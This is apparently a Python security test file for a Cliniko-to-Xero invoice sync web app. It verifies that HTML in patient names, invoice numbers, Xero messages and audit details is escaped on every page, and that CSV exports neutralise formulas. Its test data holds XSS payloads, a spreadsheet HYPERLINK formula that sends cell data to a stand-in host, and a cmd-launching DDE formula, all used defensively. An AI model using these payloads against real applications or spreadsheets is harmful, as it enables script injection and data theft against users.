"""All user- and Cliniko-provided text is escaped (SPEC §8, §12 "HTML in names", §13): HTML in a patient's
name, an invoice number, Xero's messages, a practice, organisation, catalogue item or user, and the audit
details, on every screen that shows them (job list, job detail, dashboard, practices, mappings, activity,
users, backfill, reconciliation, re-queue confirmation); and CSV cells never start a formula."""

from __future__ import annotations

import csv
import io

from tests.security.conftest import header_problems, inline_script_problems
from webapp.audit import record
from webapp.models import AuditEntry, ClinikoRecord, Practice, SyncAttempt, SyncJob, User, XeroConnection

XSS = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
ESCAPED = "&lt;script&gt;alert("  # how Jinja shows the start of XSS
RAW = ("<script>alert", "<img src=x onerror", "onerror=alert(1)>")


def poison(db, world) -> None:
    a = world.a
    job = db.session.get(SyncJob, a.job_id)
    job.patient_name = XSS
    job.invoice_number = "<b>INV-1</b>"
    job.failure_reason = f"Xero said: {XSS}"
    job.suggested_fix = f"Try {XSS}"
    job.status_reason = XSS
    job.error_detail = {"http_status": 400, "ValidationErrors": [{"Message": XSS}], "raw": XSS}
    job.source = {"invoice": {"id": "1", "number": XSS, "patient_name": XSS}, "patient": {"first_name": XSS}}
    attempt = db.session.query(SyncAttempt).filter_by(job_id=a.job_id).one()
    attempt.error = XSS
    attempt.request_body = {"Contact": {"Name": XSS}, "Reference": XSS}
    attempt.response_body = {"Elements": [{"ValidationErrors": [{"Message": XSS}]}]}
    db.session.get(Practice, a.practice_id).name = f"Clinic {XSS}"
    db.session.get(XeroConnection, a.connection_id).tenant_name = f"Org {XSS}"
    db.session.query(ClinikoRecord).filter_by(practice_id=a.practice_id).one().name = f"Item {XSS}"
    db.session.get(User, a.user_id).email = f"x{XSS}@example.com"
    record("user.update", details={"email": XSS, "note": XSS}, practice_id=a.practice_id, object_type="user")
    db.session.commit()
    assert db.session.query(AuditEntry).count() >= 1


def check_page(web, path: str, must_show_escaped: bool) -> str:
    response = web.client.get(path)
    assert response.status_code == 200, f"{path} → {response.status_code}"
    assert not header_problems(response)
    html = response.get_data(as_text=True)
    for raw in RAW:
        assert raw not in html, f"{path} renders {raw!r} unescaped"
    assert "<b>INV-1</b>" not in html, f"{path} renders the invoice number's HTML"
    assert not inline_script_problems(html), f"{path}: {inline_script_problems(html)}"
    if must_show_escaped:
        assert ESCAPED in html or "&lt;script&gt;" in html, f"{path} does not show the name at all"
    return html


def test_html_in_patient_and_other_names_is_escaped_everywhere(app, db, world, clients):
    poison(db, world)
    web = clients["admin"]
    a = world.a
    shown = {
        "/jobs/": True,                                   # patient name, invoice number, reason
        f"/jobs/{a.job_id}/": True,                       # everything about the row and its attempts
        f"/jobs/?q={a.job_id}&by=any": True,
        "/": True,                                        # dashboard: practice and organisation names
        "/practices/": True,
        f"/practices/{a.practice_id}/": True,
        f"/practices/{a.practice_id}/mappings/": True,    # catalogue item names
        f"/practices/{a.practice_id}/settings/": True,
        "/activity/": True,                               # audit details
        "/users/": True,                                  # user email
        f"/users/{a.user_id}/edit": True,
        f"/backfill/{a.practice_id}/": True,
        "/backfill/": True,
        f"/reconcile/?practice={a.practice_id}": True,
        f"/jobs/requeue-all?practice={a.practice_id}": True,
        "/settings/": True,
    }
    for path, escaped in shown.items():
        check_page(web, path, escaped)
    detail = check_page(web, f"/jobs/{a.job_id}/", True)
    assert detail.count("&lt;script&gt;") >= 3  # the name, the reason, Xero's message/payload at least
    # A practice-scoped support user sees the same escaped text.
    check_page(clients["support_a"], f"/jobs/{a.job_id}/", True)
    check_page(clients["support_a"], "/jobs/", True)


def test_csv_export_neutralises_formulas(app, db, world, clients):
    job = db.session.get(SyncJob, world.a.job_id)
    job.patient_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    job.invoice_number = "+1+cmd|' /C calc'!A0"
    job.failure_reason = "@SUM(1+1)"
    db.session.commit()
    response = clients["admin"].client.get(f"/jobs/export.csv?practice={world.a.practice_id}", buffered=True)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert not header_problems(response)
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    row = next(r for r in rows if r["id"] == str(world.a.job_id))
    for column in ("patient_name", "invoice_number", "failure_reason"):
        assert row[column][:1] == "'", f"{column} starts a formula: {row[column]!r}"
